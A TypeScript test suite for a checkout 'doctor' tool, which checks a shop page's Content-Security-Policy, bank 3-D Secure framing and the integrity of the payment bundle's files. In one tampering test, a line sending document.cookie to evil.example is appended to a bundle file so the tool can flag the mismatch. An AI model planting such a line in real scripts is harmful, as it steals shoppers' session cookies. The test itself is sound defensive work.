// The doctor reading a real checkout page over HTTP: its policies (header and meta) against what the
// checkout loads, and the bundle and its siblings as the page names them.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { createContext } from './context.ts';
import { checkCspFrames } from './csp.ts';
import { runDoctor } from './index.ts';
import { readPage } from './page.ts';
import { bankOf, GOOD_POLICY, type Shop, startShop, subscribe } from './test-helpers.ts';
import type { CheckResult, DoctorReport } from './types.ts';

let shop: Shop | undefined;
afterEach(async () => {
  await shop?.close();
  shop = undefined;
});

const check = (report: DoctorReport, id: string): CheckResult => report.checks.find((c) => c.id === id)!;
const failed = (report: DoctorReport) => report.checks.filter((c) => c.status === 'fail').map((c) => c.id);

async function doctor(options: Parameters<typeof startShop>[0]): Promise<DoctorReport> {
  shop = await startShop(options);
  await subscribe(shop);
  return runDoctor(shop.doctor());
}

describe('the page and its Content-Security-Policy', () => {
  it('a frame-src that lists only the gateway blocks the banks: ✘ saying what to add, or three-ds="redirect"', async () => {
    const report = await doctor({
      policy: (gateway) => `default-src 'self'; connect-src 'self' ${gateway}; frame-src ${gateway}`,
    });
    expect(failed(report)).toEqual(['csp-frames']);
    const frames = check(report, 'csp-frames');
    expect(frames.detail).toBe("blocks the banks' challenge pages (frame-src)");
    expect(frames.fix).toContain(`add ${bankOf(shop!.sandbox.url)} to frame-src`);
    expect(frames.fix).toMatch(/issuers' own domains/);
  });

  it('three-ds="redirect" needs no bank in frame-src', async () => {
    const report = await doctor({
      policy: (gateway) => `default-src 'self'; connect-src 'self' ${gateway}; frame-src ${gateway}`,
      attributes: ' three-ds="redirect"',
    });
    expect(failed(report)).toEqual([]);
  });

  it('a <meta> policy counts as a header does, and both apply', async () => {
    const report = await doctor({
      policy: GOOD_POLICY,
      head: `<meta http-equiv="Content-Security-Policy" content="connect-src 'self'">`,
    });
    expect(check(report, 'page').detail).toMatch(/2 Content-Security-Policy \(header, meta\)/);
    expect(failed(report)).toEqual(['csp-connect']);
    expect(check(report, 'csp-connect').fix).toBe(`add ${shop!.sandbox.url} to connect-src`);
  });

  it("scripts from the shop's folder refused, and trusted-types without the bundle's policies: ✘ each", async () => {
    const report = await doctor({
      policy: (gateway) =>
        [
          "default-src 'none'",
          'script-src https://cdn.example',
          `connect-src 'self' ${gateway}`,
          `frame-src ${gateway} ${bankOf(gateway)}`,
          'trusted-types lit-html',
        ].join('; '),
    });
    expect(failed(report)).toEqual(['csp-scripts', 'csp-trusted-types']);
    expect(check(report, 'csp-scripts').fix).toMatch(
      /^add 'self' to script-src, or give the bundle's script tag the page's nonce/,
    );
    expect(check(report, 'csp-trusted-types').fix).toMatch(/^add gateway-checkout to trusted-types/);
  });

  it('a page with no policy blocks nothing (and says so)', async () => {
    const report = await doctor({});
    expect(failed(report)).toEqual([]);
    expect(check(report, 'csp-frames').detail).toMatch(/sends no Content-Security-Policy/);
  });

  it("in production the banks need https: in frame-src (any issuer's domain)", () => {
    const page = 'https://shop.example/checkout';
    const html =
      '<script src="/gateway-checkout.iife.js"></script><gateway-checkout session-url="/s"></gateway-checkout>';
    const ctx = createContext({ baseUrl: 'https://gateway.example', secretKey: 'sk', page });
    ctx.order = { api_do_url: 'https://pay.gateway.example/pay/1/' } as never;
    const at = (policy: string) => {
      ctx.page = readPage(page, 200, new Headers({ 'content-security-policy': policy }), html);
      return checkCspFrames(ctx);
    };
    const blocked = at("default-src 'self'; frame-src https://pay.gateway.example");
    expect(blocked.status).toBe('fail');
    expect(blocked.fix).toMatch(
      /^add https: to frame-src: banks' 3-D Secure pages are on the issuers' own domains/,
    );
    expect(at("default-src 'self'; frame-src https://pay.gateway.example https:").status).toBe('pass');
    // The scheme alone admits the gateway too; `*` admits every web page.
    expect(at("default-src 'self'; frame-src https:").status).toBe('pass');
    expect(at("default-src 'self'; frame-src *").status).toBe('pass');
  });
});

describe('the bundle and its siblings, as the page names them', () => {
  it('a missing sibling: ✘ naming the file', async () => {
    let gone = '';
    const report = await doctor({
      policy: GOOD_POLICY,
      files: (files) => {
        gone = Object.keys(files).find((name) => name.includes('.de.'))!;
        delete files[gone];
        return files;
      },
    });
    expect(failed(report)).toEqual(['siblings']);
    const siblings = check(report, 'siblings');
    expect(siblings.detail).toMatch(
      new RegExp(`^1 of 3 in http://127\\.0\\.0\\.1:\\d+/assets/: ${gone.replace(/\./g, '\\.')} missing$`),
    );
    expect(siblings.fix).toMatch(/publish every gateway-checkout\.\*\.js of the same build/);
  });

  it('a tampered sibling: ✘, its integrity differs', async () => {
    let changed = '';
    const report = await doctor({
      policy: GOOD_POLICY,
      files: (files) => {
        changed = Object.keys(files).find((name) => name.includes('.mask.'))!;
        files[changed] = `${files[changed]}fetch("https://evil.example/?"+document.cookie);\n`;
        return files;
      },
    });
    expect(failed(report)).toEqual(['siblings']);
    expect(check(report, 'siblings').detail).toContain(`${changed} changed (integrity differs)`);
  });

  it("a bundle that is not the page's integrity: ✘, the browser would refuse it", async () => {
    const report = await doctor({ policy: GOOD_POLICY, integrity: () => `sha384-${'A'.repeat(64)}` });
    expect(failed(report)).toEqual(['bundle']);
    expect(check(report, 'bundle').detail).toMatch(
      /is not the file the page's integrity names \(it is sha384-/,
    );
    // The siblings are still read from the bundle as served, and they are whole.
    expect(check(report, 'siblings').status).toBe('pass');
  });

  it('a bundle that is not there: ✘ with the address', async () => {
    const report = await doctor({
      policy: GOOD_POLICY,
      files: (files) => {
        delete files['gateway-checkout.iife.js'];
        return files;
      },
    });
    expect(check(report, 'bundle').detail).toMatch(/gateway-checkout\.iife\.js answered 404$/);
    expect(check(report, 'siblings').status).toBe('skip');
  });
});

describe('a hostile page', () => {
  it('an answer that never ends is cut at 8 MiB: ✘, and the doctor goes on', async () => {
    shop = await startShop({ policy: GOOD_POLICY });
    await subscribe(shop);
    const chunk = Buffer.alloc(64 * 1024, 'a');
    const endless = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      const more = () => {
        while (res.write(chunk)) {
          if (res.destroyed) return;
        }
        res.once('drain', more);
      };
      more();
    });
    await new Promise<void>((resolve) => endless.listen(0, '127.0.0.1', resolve));
    try {
      const page = `http://127.0.0.1:${(endless.address() as AddressInfo).port}/checkout/`;
      const report = await runDoctor(shop.doctor({ page }));
      expect(check(report, 'page')).toMatchObject({ status: 'fail' });
      expect(check(report, 'page').detail).toBe(`${page} did not answer: answer larger than 8 MiB`);
      expect(check(report, 'status-secret').status).toBe('pass');
    } finally {
      endless.closeAllConnections();
      endless.close();
    }
  });
});
